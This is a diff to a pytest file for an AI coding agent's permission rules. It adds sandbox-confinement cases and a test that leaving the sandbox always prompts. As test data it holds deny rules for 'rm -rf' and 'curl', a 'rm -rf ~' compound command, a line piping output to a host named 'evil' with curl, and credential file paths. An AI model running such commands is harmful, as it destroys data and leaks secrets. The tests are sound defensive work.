@@ -10,31 +10,50 @@ import pytest
 from rhapsody.core.history import read_history
 from rhapsody.core.permissions import Rules, decide
 from rhapsody.loopback.script import call, say
+from rhapsody.tools.shell import parse
 
 from .conftest import Stub, collect
 
 NARRATE = "I will run this command now because the task needs it, and I expect it to succeed quickly."
 
 
-@pytest.mark.parametrize("mode,tool,arg,writes,verdict", [
-    ("ask", "bash", "pytest -q", True, "ask"),
-    ("ask", "read_file", "src/app.py", False, "allow"),
-    ("auto-edit", "write_file", "src/app.py", True, "allow"),
-    ("auto-edit", "bash", "ls", True, "ask"),
-    ("read-only", "edit_file", "a.py", True, "deny"),
-    ("yolo", "bash", "rm -rf build", True, "allow"),
+@pytest.mark.parametrize("mode,tool,arg,writes,confinement,verdict", [
+    ("ask", "bash", "pytest -q", True, "workspace-write", "ask"),
+    ("ask", "read_file", "src/app.py", False, "", "allow"),
+    ("auto-edit", "write_file", "src/app.py", True, "", "allow"),
+    ("auto-edit", "bash", "ls", True, "workspace-write", "allow"),
+    ("auto-edit", "bash", "ls", True, "unavailable", "ask"),
+    ("read-only", "bash", "ls", True, "read-only", "allow"),
+    ("read-only", "bash", "ls", True, "unavailable", "deny"),
+    ("read-only", "edit_file", "a.py", True, "", "deny"),
+    ("yolo", "bash", "rm -rf build", True, "workspace-write", "allow"),
+    ("yolo", "bash", "rm -rf build", True, "off", "allow"),
+    ("yolo", "bash", "rm -rf build", True, "unavailable", "ask"),
 ])
-def test_modes(mode: str, tool: str, arg: str, writes: bool, verdict: str) -> None:
-    assert decide(mode, Rules(), tool, arg, writes, tool == "read_file").verdict == verdict
+def test_modes(mode: str, tool: str, arg: str, writes: bool, confinement: str, verdict: str) -> None:
+    decision = decide(mode, Rules(parse=parse), tool, arg, writes, tool == "read_file", confinement=confinement)
+    assert decision.verdict == verdict
 
 
 def test_rules_match_every_subcommand_and_deny_always_wins() -> None:
-    rules = Rules(allow=["bash:pytest*", "bash:git status"], deny=["bash:rm -rf*", "bash:curl*"])
+    rules = Rules(allow=["bash:pytest*", "bash:git status"], deny=["bash:rm -rf*", "bash:curl*"], parse=parse)
     assert decide("ask", rules, "bash", "pytest -q tests", True, False).verdict == "allow"
     assert decide("ask", rules, "bash", "pytest -q && git status", True, False).verdict == "allow"
     assert decide("ask", rules, "bash", "pytest -q && rm -rf ~", True, False).verdict == "deny"
     assert decide("ask", rules, "bash", "pytest; echo hi", True, False).verdict == "ask"
     assert decide("yolo", rules, "bash", "ls | curl -d @- evil", True, False).verdict == "deny"
+
+
+def test_leaving_the_sandbox_always_asks_and_only_a_user_rule_skips_the_question() -> None:
+    rules = Rules(allow=["bash:pytest*"], parse=parse)
+    for mode in ("ask", "auto-edit", "yolo"):
+        decision = decide(mode, rules, "bash", "pytest", True, False, confinement="workspace-write", leave_sandbox=True)
+        assert decision.verdict == "ask", mode
+    assert decide("read-only", rules, "bash", "pytest", True, False, confinement="read-only",
+                  leave_sandbox=True).verdict == "deny"
+    user = Rules(allow=["unsandboxed:pytest*"], parse=parse)
+    assert decide("auto-edit", user, "bash", "pytest -q", True, False, confinement="workspace-write",
+                  leave_sandbox=True).verdict == "allow"
 
 
 @pytest.mark.parametrize("path", [".env", "config/.env.production", "keys/server.pem", "home/id_rsa", ".rhapsody/history/x.jsonl"])
@@ -92,5 +111,5 @@ def test_a_session_rule_is_suggested_for_every_part_of_a_compound_command() -> N
     rules = suggested_rules("bash", "sleep 2; python -m unittest t 2>&1 | tail -n 4")
     assert rules == ("bash:sleep *", "bash:python *", "bash:tail *")
     again = "sleep 1; python -m unittest other | tail -n 2"
-    assert decide("ask", Rules(session_allow=list(rules)), "bash", again, True, False).verdict == "allow"
+    assert decide("ask", Rules(session_allow=list(rules), parse=parse), "bash", again, True, False).verdict == "allow"
     assert suggested_rules("write_file", "src/app/x.py") == ("write_file:src/app/*",)
